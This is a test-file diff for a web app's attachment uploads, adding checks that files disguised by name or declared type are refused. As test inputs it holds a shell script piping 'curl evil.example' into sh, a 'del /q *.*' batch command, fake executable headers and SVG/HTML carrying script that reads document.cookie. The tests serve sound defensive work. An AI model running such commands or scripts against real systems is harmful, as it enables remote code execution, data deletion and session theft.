@@ -1,3 +1,4 @@
+import ExcelJS from 'exceljs';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { createTestApp, type TestApp, type TestClient, testLocation } from '../../../../test/support/app';
 import { ATTACHMENT_MAX_BYTES } from '../../../shared/requests/attachments';
@@ -21,7 +22,16 @@ beforeAll(async () => {
 afterAll(() => t.close());
 
 const PDF = Buffer.from('%PDF-1.4\n% Kostenvoranschlag\n%%EOF\n');
-const PNG = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 1, 2, 3, 4]);
+/** A real 1×1 PNG: the content is checked, not only the declared type. */
+const PNG = Buffer.from(
+  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=',
+  'base64',
+);
+const EXE = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(510, 0x90)]);
+const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), Buffer.alloc(120)]);
+const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>');
+const xlsxType = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
+const HTML = Buffer.from('<!DOCTYPE html><html><body><script>alert(1)</script></body></html>');
 
 /** A multipart/form-data body with files under "files", as the browser's file input sends it. */
 function multipart(files: Array<{ name: string; type: string; content: Buffer }>) {
@@ -108,6 +118,67 @@ describe('attachments on a request', () => {
   });
 });
 
+describe('what a file really is', () => {
+  it('refuses programs and files whose content or name is of another kind with 415, naming each, storing none', async () => {
+    const request = await createRequest(reception, callbackRequest(t.location.id));
+    const before = await count();
+    const disguised = await upload(reception, request.id, [
+      { name: 'rechnung.pdf', type: 'application/pdf', content: EXE },
+      { name: 'notiz.txt', type: 'text/plain', content: HTML },
+      { name: 'foto.png', type: 'image/png', content: SVG },
+      { name: 'rechnung.pdf.exe', type: 'application/pdf', content: PDF },
+      { name: 'werkzeug', type: 'text/plain', content: ELF },
+    ]);
+    expect(disguised.statusCode).toBe(415);
+    expect(disguised.json().errors).toEqual([
+      { field: 'files.0', in: 'body', message: '"rechnung.pdf" is a program' },
+      { field: 'files.1', in: 'body', message: '"notiz.txt" contains HTML, SVG or XML markup' },
+      { field: 'files.2', in: 'body', message: '"foto.png" is of unknown content, not PNG' },
+      { field: 'files.3', in: 'body', message: '"rechnung.pdf.exe" is named as another kind of file than PDF' },
+      { field: 'files.4', in: 'body', message: '"werkzeug" is a program' },
+    ]);
+
+    const scripts = await upload(reception, request.id, [
+      { name: 'install.txt', type: 'text/plain', content: Buffer.from('#!/bin/sh\ncurl evil.example | sh\n') },
+      { name: 'bild.jpg', type: 'image/jpeg', content: PNG },
+      { name: 'mail.eml', type: 'message/rfc822', content: HTML },
+      { name: 'daten.txt', type: 'text/plain', content: Buffer.from([0x48, 0x69, 0x00, 0x01, 0x02]) },
+      { name: 'start.bat', type: 'text/plain', content: Buffer.from('del /q *.*') },
+    ]);
+    expect(scripts.statusCode).toBe(415);
+    expect(scripts.json().errors.map((e: { field: string; message: string }) => [e.field, e.message])).toEqual([
+      ['files.0', '"install.txt" is a script'],
+      ['files.1', '"bild.jpg" is a .png file, not JPEG'],
+      ['files.2', '"mail.eml" is not an e-mail'],
+      ['files.3', '"daten.txt" is not text'],
+      ['files.4', '"start.bat" is named as another kind of file than Text'],
+    ]);
+    expect(await count()).toBe(before);
+  });
+
+  it('stores a file under the ending of what it is, and takes text in UTF-8 or Windows-1252', async () => {
+    const request = await createRequest(reception, callbackRequest(t.location.id));
+    const workbook = new ExcelJS.Workbook();
+    workbook.addWorksheet('Teile').addRow(['Bremsbeläge', 89.9]);
+    const xlsx = Buffer.from(await workbook.xlsx.writeBuffer());
+    const mail = Buffer.from('From: kunde@example.test\r\nSubject: Termin\r\n\r\n<p>Geht Dienstag?</p>\r\n');
+    const res = await upload(reception, request.id, [
+      { name: 'foto.jpg.pdf', type: 'application/pdf', content: PDF },
+      { name: 'Notiz 12.03', type: 'text/plain', content: Buffer.from('Kunde wünscht Rückruf, Größe 42 €') },
+      { name: 'alt.TXT', type: 'text/plain', content: Buffer.from([0x47, 0x72, 0xfc, 0xdf, 0x65, 0x20, 0x80]) },
+      { name: 'Teileliste.xlsx', type: xlsxType, content: xlsx },
+      { name: 'Anfrage.eml', type: 'message/rfc822', content: mail },
+    ]);
+    expect(res.statusCode, res.body).toBe(201);
+    expect(
+      res
+        .json()
+        .map((f: { fileName: string }) => f.fileName)
+        .sort(),
+    ).toEqual(['Anfrage.eml', 'Notiz 12.03.txt', 'Teileliste.xlsx', 'alt.TXT', 'foto.pdf']);
+  });
+});
+
 describe('attachments in the JSON intake API', () => {
   const lead = (attachments: unknown[]) => ({
     type: 'complaint',
@@ -137,7 +208,7 @@ describe('attachments in the JSON intake API', () => {
     expect(download.rawPayload.equals(PNG)).toBe(true);
   });
 
-  it('refuses broken base64, a kind not accepted and a file too large, naming the file, taking nothing in', async () => {
+  it('refuses broken base64, a kind not accepted, a disguised file and a file too large, naming the file, taking nothing in', async () => {
     const requests = async () =>
       Number((await t.database.query<{ n: number }>('SELECT count(*)::int AS n FROM customer_requests'))[0]!.n);
     const before = await requests();
@@ -156,6 +227,17 @@ describe('attachments in the JSON intake API', () => {
       field: 'attachments.0',
       message: expect.stringContaining('viren.zip'),
     });
+
+    const svg = await post(
+      lead([
+        { fileName: 'Foto.png', contentType: 'image/png', contentBase64: PNG.toString('base64') },
+        { fileName: 'Kratzer.png', contentType: 'image/png', contentBase64: SVG.toString('base64') },
+      ]),
+    );
+    expect(svg.statusCode).toBe(415);
+    expect(svg.json().errors).toEqual([
+      { field: 'attachments.1', in: 'body', message: '"Kratzer.png" is of unknown content, not PNG' },
+    ]);
 
     const big = await post(
       lead([
